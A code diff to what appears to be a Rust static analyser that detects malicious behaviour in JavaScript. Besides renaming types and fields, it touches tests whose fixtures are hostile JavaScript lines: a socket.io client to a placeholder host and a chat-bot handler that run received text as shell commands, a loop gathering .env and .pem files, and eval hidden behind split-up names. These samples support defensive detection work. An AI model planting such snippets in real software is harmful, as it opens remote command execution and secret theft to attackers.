@@ -191,7 +191,8 @@ pub(super) fn by_method<'t>(
         }
         // A client of any package, told where to send.
         "post" | "put" | "patch"
-            if first.shown().starts_with("http") && first.shown().contains("://") =>
+            if first.text_or_unknown().starts_with("http")
+                && first.text_or_unknown().contains("://") =>
         {
             let parts: Vec<Value> = parts_of(arguments);
             let parts: Vec<&Value> = parts.iter().collect();
@@ -243,7 +244,7 @@ pub(super) fn loads(property: &str, object: &Value) -> bool {
 #[cfg(test)]
 mod tests {
     use crate::{
-        act::{Act, Acts, Code},
+        act::{Act, Acts, CodeOrigin},
         javascript::read,
     };
 
@@ -253,7 +254,7 @@ mod tests {
 
     fn sends_private(text: &str) -> bool {
         acts(text)
-            .seen
+            .located
             .iter()
             .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.private.is_some()))
     }
@@ -281,8 +282,8 @@ mod tests {
             "const s = require('socket.io-client')('https://a.example'); s.on('c', c => require('child_process').exec(c));",
             "c.on('messageCreate', m => { const [k, ...a] = m.content.split(' '); require('child_process').execSync(a.join(' ')); });",
         ] {
-            let found = acts(text).seen;
-            let obeys = |act: &Act| matches!(act, Act::Executes(Code::Fetched(_)));
+            let found = acts(text).located;
+            let obeys = |act: &Act| matches!(act, Act::Executes(CodeOrigin::Fetched(_)));
             assert!(found.iter().any(|seen| obeys(&seen.act)), "{text}");
         }
     }
@@ -290,7 +291,7 @@ mod tests {
     #[test]
     fn files_that_are_left_out_are_not_looked_for() {
         let names =
-            |text: &str| acts(text).seen.iter().any(|seen| matches!(seen.act, Act::Names(_)));
+            |text: &str| acts(text).located.iter().any(|seen| matches!(seen.act, Act::Names(_)));
         assert!(names("for (const f of files) if (/\\.env$|\\.pem$/.test(f)) out.push(f);"));
         assert!(!names("for (const f of files) { if (/\\.env$|\\.pem$/.test(f)) continue; }"));
         assert!(!names("files.filter(f => !/\\.env$|\\.pem$/.test(f));"));
@@ -299,7 +300,7 @@ mod tests {
     #[test]
     fn names_in_pieces_hide_functions() {
         let hides =
-            |text: &str| acts(text).seen.iter().any(|seen| matches!(seen.act, Act::Obscures(_)));
+            |text: &str| acts(text).located.iter().any(|seen| matches!(seen.act, Act::Obscures(_)));
         assert!(hides("(() => {})['con' + 'structor']('return 1')();"));
         assert!(hides("globalThis[['ev', 'al'].join('')]('1');"));
         assert!(!hides("const a = (async () => {}).constructor;"));
